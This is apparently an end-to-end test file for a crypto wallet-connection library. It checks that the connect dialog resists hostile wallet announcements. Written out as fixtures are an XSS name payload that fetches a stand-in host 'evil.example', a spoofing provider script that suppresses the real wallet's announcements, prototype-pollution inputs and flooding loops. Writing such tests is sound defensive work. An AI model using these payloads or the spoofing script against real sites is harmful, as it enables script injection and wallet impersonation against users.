import type { createHostileInfo } from '@latchkit/testing'
import { installWallet } from '@latchkit/testing/playwright'
import type { BrowserContext, Page } from '@playwright/test'
import { expect, test } from '../support/test.ts'
import { waitForRequest } from '../support/waitForRequest.ts'

// The page's own policy must not be what stops them.
test.use({ bypassCSP: true })

/** Where hostile wallets send to, by default. */
const evil = 'https://evil.example/'

/** Answers what is sent there, and writes it down. */
async function watchEvil(context: BrowserContext): Promise<string[]> {
  const caught: string[] = []
  await context.route(`${evil}**`, (route) => {
    caught.push(route.request().resourceType())
    return route.fulfill({
      headers: { 'access-control-allow-origin': '*' },
      body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
      contentType: 'image/svg+xml',
    })
  })
  return caught
}

/** Nothing has gone there, and it would have been seen. */
async function expectNothingCaught(
  page: Page,
  caught: readonly string[],
): Promise<void> {
  await page.waitForLoadState('networkidle')
  expect(caught).toEqual([])
  await page.evaluate((url) => fetch(url), evil)
  expect(caught).toEqual(['fetch'])
}

function createHostile(kinds: readonly createHostileInfo.Kind[]) {
  return kinds.map((hostile) => ({
    name: `The ${hostile}`,
    rdns: `test.${hostile.toLowerCase()}`,
    hostile,
  }))
}

test('hostile wallets: an icon runs no script and reaches no host; what is no image is a letter', async ({
  context,
  openDapp,
}) => {
  const caught = await watchEvil(context)
  const kinds = [
    'svgScript',
    'remoteIcon',
    'javascriptIcon',
    'htmlIcon',
    'cssIcon',
    'hugeIcon',
  ] as const
  const dapp = await openDapp({
    wallets: createHostile(kinds),
    // The browser's own word on the icon that is no base64.
    expectErrors: [/ERR_INVALID_URL/],
  })
  const { dialog, page } = dapp
  await dapp.connectButton.click()
  await expect(dialog.locator('img')).toHaveCount(1)
  const icon = dapp.wallet('The svgScript').locator('img')
  await expect(icon).toHaveAttribute('src', /^data:image\/svg\+xml,.*onload/)
  for (const kind of kinds.slice(1))
    await expect(dapp.wallet(`The ${kind}`).locator('.lk-badge')).toHaveText(
      'T',
    )

  // It is shown while the wallet is asked, and with the account.
  await page.evaluate(() => wallets[0]?.once('eth_requestAccounts', 'hang'))
  await dapp.wallet('The svgScript').click()
  await waitForRequest(page, 'eth_requestAccounts')
  await expect(dialog.locator('img')).toHaveAttribute('src', /onload/)
  await page.evaluate(() => wallets[0]?.release())
  await dapp.accountButton.click()
  await expect(dialog).toContainText('Connected with The svgScript')
  await expectNothingCaught(page, caught)
})

test('hostile wallets: a name is text, short, and in one direction', async ({
  context,
  openDapp,
}) => {
  const caught = await watchEvil(context)
  const dapp = await openDapp({
    wallets: createHostile(['htmlName', 'longName', 'bidiName', 'emptyName']),
  })
  const { dialog, page } = dapp
  await dapp.connectButton.click()
  const labels = dialog.locator('.lk-row-label')
  await expect(labels).toHaveText([
    `<img src=x onerror="fetch('${evil}')">`,
    'N'.repeat(64),
    'MetaksaM',
    'All wallets',
  ])
  await expect(labels.locator('*')).toHaveCount(0)
  for (const width of [1_280, 360]) {
    await page.setViewportSize({ width, height: 800 })
    const isWithin = await dialog.evaluate((element) =>
      [element, ...element.querySelectorAll('.lk-row')].every(
        ({ scrollWidth, clientWidth }) => scrollWidth <= clientWidth,
      ),
    )
    expect(isWithin, `at ${width} px`).toBe(true)
  }
  await page.evaluate(() => wallets[1]?.once('eth_requestAccounts', 'reject'))
  await dapp.wallet(/^NNN/).click()
  await expect(dialog).toContainText('You declined the request')
  await expect(dialog.getByRole('heading')).toHaveText('N'.repeat(64))
  await expectNothingCaught(page, caught)
})

test('hostile wallets: an introduction is read once, and copied', async ({
  context,
  openDapp,
}) => {
  const caught = await watchEvil(context)
  const dapp = await openDapp({
    wallets: createHostile([
      'changingInfo',
      'prototypeKeys',
      'throwingInfo',
      'wrongTypes',
      'badUuid',
      'badRdns',
    ]),
  })
  const { dialog, page } = dapp
  await page.evaluate(() =>
    window.dispatchEvent(new Event('eip6963:requestProvider')),
  )
  await dapp.connectButton.click()
  await expect(dialog.locator('.lk-row-label')).toHaveText([
    'The changingInfo',
    'The prototypeKeys',
    'All wallets',
  ])
  await expect(dialog.locator('img')).toHaveCount(2)
  const ids = await page.evaluate(() =>
    app.kit.getState().connectors.map(({ id }) => id),
  )
  expect(ids).toEqual(['eip155:test.changinginfo', 'eip155:test.prototypekeys'])
  await dapp.wallet('The prototypeKeys').click()
  await expect(dapp.status).toHaveText('connected')
  const polluted = await page.evaluate(() => Reflect.get({}, 'polluted'))
  expect(polluted).toBeUndefined()
  await expectNothingCaught(page, caught)
})

test('hostile wallets: an answer with own prototype keys is refused', async ({
  openDapp,
}) => {
  const dapp = await openDapp({
    wallets: [{ misbehavior: { prototypeKeys: true } }],
  })
  await dapp.connect()
  const { name, polluted } = await dapp.page.evaluate(async () => {
    const refused = app.evm.getCapabilities(app.kit, {})
    const name = await refused.catch((error: Error) => error.name)
    return { name, polluted: Reflect.get({}, 'polluted') }
  })
  expect(name).toBe('WalletResponseError')
  expect(polluted).toBeUndefined()
})

test('hostile wallets: an id that two claim on arrival is not reconnected', async ({
  context,
  openDapp,
}) => {
  const rdns = 'test.same'
  const dapp = await openDapp({ wallets: [{ name: 'Real', rdns }] })
  await dapp.connect('Real')
  const spoof = await installWallet(context, { name: 'Spoof', rdns })
  const warning = dapp.page.waitForEvent('console', {
    predicate: (message) =>
      message.type() === 'warning' &&
      message.text().includes('several wallets claim its name'),
  })
  await dapp.page.reload()
  await warning
  await expect(dapp.status).toHaveText('disconnected')
  await dapp.connectButton.click()
  for (const name of ['Real', 'Spoof'])
    await expect(dapp.wallet(name)).toContainText('May be fake')
  const asked = await dapp.page.evaluate(() => wallets[0]?.requests)
  expect(asked).toEqual([])
  // The visitor's own choice counts, and goes to the wallet that was chosen.
  await dapp.wallet('Real').click()
  await dapp.dialog.getByRole('button', { name: 'Continue anyway' }).click()
  await expect(dapp.status).toHaveText('connected')
  expect(spoof.requests).toEqual([])
})

test('hostile wallets: one that claims a connected wallet’s id later gets nothing, and blocks signing until the visitor chooses', async ({
  openDapp,
}) => {
  const rdns = 'test.same'
  const dapp = await openDapp({
    wallets: [
      { name: 'Real', rdns },
      { name: 'Spoof', rdns, announceAfter: null, storageKey: 'spoof' },
    ],
    expectErrors: [/claims to be Real/],
  })
  const { dialog, page } = dapp
  const sign = () =>
    page.getByRole('button', { name: 'Sign with a hook' }).click()
  await dapp.connect('Real')
  await page.reload()
  await expect(dapp.status).toHaveText('connected')
  const address = (await dapp.address.textContent()) ?? ''
  await sign()
  await expect(page.getByTestId('hook-result')).toHaveText(/^0x/)
  await page.evaluate(() => wallets[1]?.announce())
  const countClaims = () =>
    page.evaluate(() =>
      app.kit.getState().connectors.map(({ claimants }) => claimants),
    )
  await expect.poll(countClaims).toEqual([2, 2])
  await expect(
    page.getByText('Another wallet claims to be yours'),
  ).toBeVisible()
  await sign()
  await expect(page.getByTestId('hook-result')).toContainText(
    'WalletContestedError',
  )
  await expect(dapp.status).toHaveText('connected')
  await expect(dapp.address).toHaveText(address)
  expect(await page.evaluate(() => wallets[1]?.requests)).toEqual([])
  const signed = await page.evaluate(
    () =>
      wallets[0]?.requests.filter(({ method }) => method === 'personal_sign')
        .length,
  )
  expect(signed).toBe(1)

  // The alert leads to the list.
  const alert = page.locator('.lk-toast')
  await alert.getByRole('button', { name: 'Disconnect' }).click()
  for (const name of ['Real', 'Spoof'])
    await expect(dapp.wallet(name)).toContainText('May be fake')
  await dapp.wallet('Real').click()
  await dialog.getByRole('button', { name: 'Continue anyway' }).click()
  await expect(dapp.status).toHaveText('connected')
  await sign()
  await expect(page.getByTestId('hook-result')).toHaveText(/^0x/)
  // A second announcement of either changes nothing.
  await page.evaluate(() => {
    for (const wallet of wallets) wallet.announce()
  })
  await sign()
  await expect(page.getByTestId('hook-result')).toHaveText(/^0x/)
})

test('hostile wallets: one that takes the id of the stored wallet is not reconnected', async ({
  context,
  openDapp,
}) => {
  const rdns = 'test.same'
  const dapp = await openDapp({ wallets: [{ name: 'Real', rdns }] })
  const { page } = dapp
  await dapp.connect('Real')
  await expect(dapp.status).toHaveText('connected')
  const stored = await page.evaluate(() =>
    localStorage.getItem('latchkit.connection.eip155'),
  )
  // On the next visit a script announces itself first, and the wallet comes late.
  await context.addInitScript(() => {
    const evil = `0x${'ee'.repeat(20)}`
    const answers: Record<string, unknown> = {
      eth_accounts: [evil],
      eth_requestAccounts: [evil],
      eth_chainId: '0x1',
    }
    const requests: string[] = []
    const info = {
      uuid: crypto.randomUUID(),
      name: 'Real',
      icon: 'data:image/svg+xml,%3Csvg/%3E',
      rdns: 'test.same',
    }
    const provider = {
      async request({ method }: { method: string }) {
        requests.push(method)
        return answers[method] ?? null
      },
    }
    Object.assign(window, { spoofed: requests })
    const stop = (event: Event) => {
      const isReal =
        (event as CustomEvent<{ provider: object }>).detail.provider !==
        provider
      if (isReal) event.stopImmediatePropagation()
    }
    window.addEventListener('eip6963:announceProvider', stop, true)
    const announce = () =>
      window.dispatchEvent(
        new CustomEvent('eip6963:announceProvider', {
          detail: { info, provider },
        }),
      )
    window.addEventListener('eip6963:requestProvider', announce)
  })
  const warning = page.waitForEvent('console', {
    predicate: (message) =>
      message.type() === 'warning' &&
      message.text().includes('its account is not open'),
  })
  await page.reload()
  await warning
  await expect(dapp.status).toHaveText('disconnected')
  const after = await page.evaluate(() => ({
    stored: localStorage.getItem('latchkit.connection.eip155'),
    recent: app.kit.getState().recentWallets,
    asked: Reflect.get(window, 'spoofed'),
  }))
  expect(after.stored).toBe(stored)
  expect(after.recent).toMatchObject([{ id: 'eip155:test.same' }])
  expect(after.asked).not.toContain('eth_requestAccounts')
  await dapp.connectButton.click()
  await expect(dapp.wallet('Real')).toContainText('Recent')
})

for (const isOneId of [false, true])
  test(`hostile wallets: 10,000 announcements of ${isOneId ? 'one id' : 'as many ids'} keep the page busy for a moment only`, async ({
    context,
    openDapp,
  }, { annotations }) => {
    const dapp = await openDapp()
    await dapp.connectButton.click()
    await expect(dapp.wallet()).toBeVisible()
    const readBusy = await watchBusy(context, dapp.page)
    const before = await readBusy()
    await dapp.page.evaluate((isOneId) => {
      for (let i = 0; i < 10_000; i += 1) {
        const info = {
          uuid: crypto.randomUUID(),
          name: `Flood ${i}`,
          icon: 'data:image/svg+xml,%3Csvg/%3E',
          rdns: isOneId ? 'test.flood' : `test.flood${i}`,
        }
        const provider = { request: async () => null }
        const detail = { info, provider }
        const type = 'eip6963:announceProvider'
        window.dispatchEvent(new CustomEvent(type, { detail }))
      }
    }, isOneId)
    // What is listed at once, and the row of all wallets; the others wait for their places.
    await expect(dapp.dialog.getByRole('listitem')).toHaveCount(
      isOneId ? 5 : 21,
    )
    const busy = (await readBusy()) - before
    annotations.push({ type: 'busy', description: `${busy} s` })
    expect(busy).toBeLessThan(1)
    await dapp.wallet('Fake Wallet').click()
    await expect(dapp.status).toHaveText('connected')
  })

test('hostile wallets: a script that announces 100 wallets first hides neither known, recent nor other wallets', async ({
  openDapp,
}) => {
  const dapp = await openDapp({
    wallets: [
      { name: 'Recent', rdns: 'test.recent' },
      { name: 'MetaMask', rdns: 'io.metamask', announceAfter: 500 },
      { name: 'Small', rdns: 'test.small', announceAfter: 500 },
    ],
  })
  const { dialog, page } = dapp
  await dapp.connect('Recent')
  await expect(dapp.status).toHaveText('connected')
  await page.context().addInitScript(() => {
    const flood = () => {
      window.removeEventListener('eip6963:requestProvider', flood, true)
      for (let i = 0; i < 100; i += 1) {
        const info = {
          uuid: crypto.randomUUID(),
          name: `Flood ${i}`,
          icon: 'data:image/svg+xml,%3Csvg/%3E',
          rdns: `test.flood${i}`,
        }
        const provider = { request: async () => null }
        const type = 'eip6963:announceProvider'
        const detail = { info, provider }
        window.dispatchEvent(new CustomEvent(type, { detail }))
      }
    }
    window.addEventListener('eip6963:requestProvider', flood, true)
  })
  await page.reload()
  await expect(dapp.status).toHaveText('connected')
  await page.evaluate(() => app.core.disconnect(app.kit))
  await dapp.connectButton.click()
  await expect(dapp.wallet('Small')).toBeVisible()
  const readLabels = () => dialog.locator('.lk-row-label').allTextContents()
  const readFirst = async () => (await readLabels()).slice(0, 2)
  await expect.poll(readFirst).toEqual(['Recent', 'MetaMask'])
  const labels = await readLabels()
  expect(labels.length).toBeLessThan(50)
})

/** How many seconds of a processor the page has used: unlike those on the clock, the same on a loaded machine. */
async function watchBusy(
  context: BrowserContext,
  page: Page,
): Promise<() => Promise<number>> {
  const session = await context.newCDPSession(page)
  await session.send('Performance.enable', { timeDomain: 'threadTicks' })
  return async () => {
    const { metrics } = await session.send('Performance.getMetrics')
    return metrics.find(({ name }) => name === 'TaskDuration')?.value ?? NaN
  }
}
